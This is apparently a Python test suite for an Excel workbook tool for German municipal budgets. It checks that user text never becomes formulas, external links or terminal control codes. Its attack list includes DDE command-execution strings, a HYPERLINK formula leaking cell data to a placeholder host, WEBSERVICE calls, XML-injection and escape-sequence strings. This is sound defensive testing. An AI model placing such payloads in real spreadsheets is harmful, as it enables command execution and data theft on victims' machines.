"""Nothing we write can be executed: what people typed stays a text wherever it goes."""

from __future__ import annotations

import csv
import json
import re
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

import mappen
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from amip_xl.books.cells import Art, Schreibung
from amip_xl.books.liveprogram import _fuer_excel
from amip_xl.books.patch import patche
from amip_xl.books.reader import Mappe, lies, lies_bytes
from amip_xl.consolidate import konsolidiere
from amip_xl.doors.terminal import json_text, sauber
from amip_xl.edition import edition
from amip_xl.form import Art as Feldart
from amip_xl.jobs import ausfuellen, berechnen
from books.mappen import lies_beide, mappe

ANFAENGE = ("=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "\uff1d", "<r>", "\x1b[2J", "\u202e", "\0", "")
ANGRIFFE = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", ' =HYPERLINK("http://boese.example/?"&A1,"hier")', '=WEBSERVICE("http://boese.example")',
    "{=1+1}", "'=1+1", "http://boese.example", "mailto:a@b.example", "internal:Budget!A1", "_x003D_1+1",
    "]]><f>1+1</f>",
    "<r><t>reich</t></r>", "<r></t></si></sst><f>1</f></r>", "\x1b]0;Titel\x07\x9b31mrot", "=1+1\u202e", "#REF!",
)  # fmt: skip
gefaehrlich = st.one_of(
    st.sampled_from(ANGRIFFE),
    st.builds(
        lambda a, b, c: a + b + c, st.sampled_from(ANFAENGE), st.sampled_from(ANFAENGE), st.sampled_from(ANGRIFFE)
    ),
    st.builds(lambda a, b: a + b, st.sampled_from(ANFAENGE), st.text(max_size=30)),
)
TEXTFELDER = [f.name for f in edition(2026).form.felder.values() if f.eingabe and f.art is Feldart.TEXT]


def formeln(gelesen: Mappe, *ausser: str) -> dict[tuple[str, str], str]:
    """Every formula of a workbook and where it stands."""
    return {
        (b.name, z.ref): z.formel
        for b in gelesen.blaetter
        if b.name not in ausser
        for z in gelesen.zellen(b.name)
        if z.formel is not None
    }


def verweise(pfad: Path) -> list[str]:
    """Targets of links and other relationships out of the file."""
    return [n for n, t in mappen.teile(pfad).items() if n.endswith(".rels") and b"External" in t]


# --- the writers ----------------------------------------------------------------------------------------

LEER = mappe('<row r="7"><c r="C7"/><c r="D7"><f>A1</f><v>1</v></c></row>')


@settings(max_examples=300, deadline=None)
@given(gefaehrlich, gefaehrlich)
def test_the_lossless_writer_makes_no_formula_of_a_text(konstante: str, zwischenwert: str) -> None:
    neu = patche(LEER, [Schreibung("Budget", "C7", konstante), Schreibung("Budget", "D7", zwischenwert)])
    gelesen = lies_beide(neu)
    assert formeln(gelesen) == {("Budget", "D7"): "A1"}
    assert [gelesen.zelle("Budget", r).wert for r in ("C7", "D7")] == [konstante, zwischenwert]
    assert gelesen.zelle("Budget", "C7").art is Art.TEXT


@settings(max_examples=300, deadline=None)
@given(gefaehrlich)
def test_an_open_excel_is_told_that_a_text_is_a_text(text: str) -> None:
    if text.lstrip()[:1] in tuple("=+-@'\uff1d"):
        assert _fuer_excel(text) == f"'{text}"


def test_the_template_takes_every_text_literally(tmp_path: Path) -> None:
    assert len(TEXTFELDER) >= len(ANGRIFFE)
    werte = dict(zip(TEXTFELDER, (a.replace("\x9b", "") for a in ANGRIFFE), strict=False))
    leer = lies(mappen.schreibe(tmp_path / "leer.xlsx", {}))
    pfad = mappen.schreibe(tmp_path / "voll.xlsx", werte)
    voll = lies_beide(pfad.read_bytes())
    assert {n: voll.benannt(n).wert for n in werte} == werte
    assert formeln(voll) == formeln(leer)
    assert verweise(pfad) == []


def test_answers_from_a_file_arrive_as_texts(tmp_path: Path) -> None:
    pfad = mappen.mappe(tmp_path / "Plan.xlsx")
    werte = dict(zip(TEXTFELDER, ANGRIFFE, strict=False))
    toml = tmp_path / "werte.toml"
    toml.write_text("".join(f"{n} = {json.dumps(w)}\n" for n, w in werte.items()), "utf-8")
    vorher = formeln(lies(pfad))
    assert mappen.laufe("ausfuellen", pfad, toml, "-o", tmp_path / "neu.xlsx") in (0, 1)
    neu = lies_beide((tmp_path / "neu.xlsx").read_bytes())
    assert {n: neu.benannt(n).wert for n in werte} == werte
    assert formeln(neu) == vorher
    assert verweise(tmp_path / "neu.xlsx") == []


@pytest.mark.parametrize("text", ANGRIFFE[:10])
def test_the_protocol_quotes_without_executing(text: str, tmp_path: Path) -> None:
    """A finding quotes what stands where a number belongs, and calls the sheet as people have called it."""
    pfad = mappen.mappe(tmp_path / "Plan.xlsx")
    mappen.umbenannt(pfad, "Ziele", "=1+1+HYPERLINK(1)")
    ausfuellen(pfad, {"egt_zuteilung": text, "lzb_plan": text}, pfad)
    vorher = formeln(lies(pfad))
    berechnen(pfad, pfad, jetzt=datetime(2026, 1, 5))
    neu = lies_beide(pfad.read_bytes())
    assert formeln(neu) == vorher
    assert any(isinstance(z.wert, str) and sichtbar(text) in z.wert for z in neu.zellen("Prüfprotokoll"))
    assert verweise(pfad) == []


def sichtbar(text: str) -> str:
    """The part of a text that a quotation holds whatever it does to blanks."""
    return max(re.split(r"[\s\"]", text), key=len)[:10]


# --- many workbooks become one --------------------------------------------------------------------------


def zusammengefuehrt(ordner: Path, *, boese: bool) -> Path:
    """A county of two municipalities with two files; names of files, of places and answers may be evil."""
    for ags, datei, angriff in (("05154004", "=1+1.xlsx", ANGRIFFE[0]), ("05154036", "@a.xlsx", ANGRIFFE[15])):
        anders = {"name": angriff, "bemerkungen": angriff} if boese else {}
        mappen.mappe(ordner / (datei if boese else f"{ags}.xlsx"), ags=ags, **anders)
    konsolidiere([ordner], ordner / "aus" / "KREIS.xlsx", jetzt=datetime(2026, 1, 5))
    return ordner / "aus" / "KREIS.xlsx"


def test_the_county_workbook_executes_nothing_that_a_municipality_sent(tmp_path: Path) -> None:
    gut, boese = (zusammengefuehrt(tmp_path / str(b), boese=b) for b in (False, True))
    assert formeln(lies(boese)) == formeln(lies(gut))
    assert verweise(boese) == []
    kreis = lies_beide(boese.read_bytes())
    texte = {z.wert for b in kreis.blaetter for z in kreis.zellen(b.name) if z.art is Art.TEXT}
    assert {"=1+1.xlsx", "@a.xlsx", ANGRIFFE[0], ANGRIFFE[15]} <= texte


# --- screens and other programs -------------------------------------------------------------------------

_WIRKT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


@settings(max_examples=300, deadline=None)
@given(gefaehrlich)
def test_a_terminal_sees_nothing_it_would_act_on(text: str) -> None:
    assert _WIRKT.search(sauber(text)) is None
    assert "\n" not in sauber(text)


@settings(max_examples=300, deadline=None)
@given(gefaehrlich)
def test_json_keeps_the_text_and_shows_a_terminal_nothing_it_would_act_on(text: str) -> None:
    ausgabe = json_text({"text": [text]})
    assert json.loads(ausgabe) == {"text": [text]}
    assert _WIRKT.search(ausgabe) is None


def test_one_workbook_of_a_program_that_writes_formulas_is_read_as_such() -> None:
    """The other way round: what really is a formula is not taken for an answer."""
    daten = mappe('<row r="7"><c r="C7" t="str"><f>1+1</f><v>=1+1</v></c></row>')
    assert lies_bytes(daten, "Plan.xlsx").zelle("Budget", "C7").formel == "1+1"


# --- the county's round: what is issued, listed, compared, carried over ----------------------------------

VERSTECKT = "\x1b]0;T\x07\x0b\ufffe_x003D_"  # what XML cannot hold, beside what a workbook would take for an escape


@pytest.fixture(scope="module")
def runde(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A county whose places, files, sources and comments are evil goes through the commands of the round."""
    ordner = tmp_path_factory.mktemp("runde")
    for stand in ("alt", "neu"):
        for i, (datei, angriff) in enumerate(
            (("=1+1.xlsx", ANGRIFFE[0]), ("a&<b>\x01.xlsx", ANGRIFFE[7]), ("@a\x1b[2J.xlsx", f"=1+1{VERSTECKT}")), 1
        ):
            mappen.mappe(
                ordner / stand / "x.xlsx", ags=f"0799900{i}", name=angriff, bemerkungen=f"{angriff}{stand}",
                egt_zuteilung=1000 * i + len(stand) * i + ord(stand[0]),
            ).rename(ordner / stand / datei)  # fmt: skip
    kreis = '[kreis]\nags = "07999000"\nname = "=1+1"\ntraegerform = "zkT"\njahr = 2026\nansprechstelle = "@SUM(1)"\n'
    kreis += "".join(f'[[gemeinde]]\nags = "0799900{i}"\nname = "={i}+1"\nkontakt = "=1+1"\n' for i in (1, 2, 3))
    kreis += '[schluessel.a]\nquelle = "=1+1\\u001b[2J"\nwerte = { 07999001 = 1, 07999002 = 2, 07999003 = 3 }\n'
    kreis += '[[verteilung]]\nfeld = "egt_zuteilung"\nsumme = 7\nschluessel = "a"\nquelle = "=1+HYPERLINK(1)\\u0000"\n'
    (ordner / "K.toml").write_text(kreis, "utf-8")
    alt, neu, k = ordner / "alt", ordner / "neu", ordner / "K.toml"
    assert mappen.laufe("ausgeben", k, "-o", ordner / "aus") == 0
    assert mappen.laufe("stand", neu, "--kreis", k, "-o", ordner / "Stand.xlsx", "--quittungen", ordner / "q") in (0, 1)
    assert mappen.laufe("konsolidieren", neu, "-o", ordner / "Kreis.xlsx", "--tabelle", ordner / "t.csv") in (0, 1)
    assert mappen.laufe("vergleichen", alt, neu, "-o", ordner / "Vergleich.xlsx") in (0, 1)
    assert mappen.laufe("uebernehmen", *alt.iterdir(), "-o", ordner / "u", "--jahr", "2027") in (0, 1)
    return ordner


def test_every_workbook_of_the_round_is_well_formed_and_takes_no_text_for_a_formula(runde: Path) -> None:
    neue = [p for p in runde.rglob("*.xlsx") if p.parent.name not in ("alt", "neu")]
    assert len(neue) == 3 + 1 + 3 + 3 + 3  # issued and the county's own, receipts, carried over, list, county, compared
    for pfad in neue:
        assert verweise(pfad) == []
        for name, teil in mappen.teile(pfad).items():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(teil)  # charts and drawings are read by nobody else here
            if name.startswith("xl/worksheets/"):
                boese = re.findall(rb"<f[^>]*>\s*=?(?:\d\+|cmd|@|WEBSERVICE|HYPERLINK\((?!&quot;#|\"#))[^<]*", teil)
                assert boese == [], (pfad.name, name)


def test_texts_and_tables_of_the_round_execute_nothing(runde: Path) -> None:
    with (runde / "t.csv").open(encoding="utf-8-sig", newline="") as datei:
        zellen = {z for zeile in csv.reader(datei, delimiter=";") for z in zeile}
    assert any(ANGRIFFE[7].strip() in z for z in zellen)
    assert [z for z in zellen if z[:1] in ("=", "+", "@", "\t") or (z[:1] == "-" and not z[1:2].isdigit())] == []
    for quittung in (runde / "q").glob("*.txt"):
        assert _WIRKT.search(quittung.read_text("utf-8").replace("\r\n", "\n")) is None
